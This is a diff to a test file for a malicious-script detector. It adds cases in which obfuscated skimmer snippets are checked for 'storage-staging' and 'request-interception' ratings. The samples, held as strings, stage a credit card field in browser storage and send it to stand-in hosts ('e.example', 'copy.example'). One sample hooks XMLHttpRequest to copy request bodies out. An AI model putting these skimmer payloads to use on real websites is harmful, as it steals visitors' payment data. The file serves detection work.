@@ -88,6 +88,21 @@ describe('detectors', () => {
     assert.equal(detected(gated).get('drive-by-redirect'), 'medium');
   });
 
+  test('computed keys held in configuration objects and helper calls are read as names (storage staging through them)', () => {
+    const config = 'var c = { s: "localStorage" }; window[c.s].setItem("k", document.getElementById("cc_number").value); setTimeout(function () { fetch("https://e.example/" + window[c.s].getItem("k")); }, 9000);';
+    assert.equal(detected(config).get('storage-staging'), 'high');
+    const helper = 'var s = function () { return String.fromCharCode.apply(null, arguments); }; var st = window[s(115,101,115,115,105,111,110,83,116,111,114,97,103,101)]; st.setItem("k", document.getElementById("cc_number").value); setTimeout(function () { fetch("https://e.example/" + st.getItem("k")); }, 9000);';
+    assert.equal(detected(helper).get('storage-staging'), 'high');
+    assert.ok(!detected('var c = { s: "theme" }; window[c.s] = 1; localStorage.setItem("k", "dark");').has('storage-staging'));
+  });
+
+  test('request hooks are recognised through aliases of the prototype, and are strong only with an outside host', () => {
+    const hook = 'var proto = window.XMLHttpRequest.prototype; var send = proto.send; proto.send = function (b) { new Image().src = "https://copy.example/c?d=" + btoa(b); return send.apply(this, arguments); };';
+    assert.equal(detected(hook).get('request-interception'), 'high');
+    const monitor = 'var proto = window.XMLHttpRequest.prototype; var send = proto.send; proto.send = function (b) { timings.push(Date.now()); return send.apply(this, arguments); };';
+    assert.equal(detected(monitor).get('request-interception'), 'low');
+  });
+
   test('a hidden frame without a named host is only a weak signal', () => {
     assert.equal(detected('var f = document.createElement("iframe"); f.style.display = "none"; document.body.appendChild(f);').get('hidden-iframe'), 'low');
   });
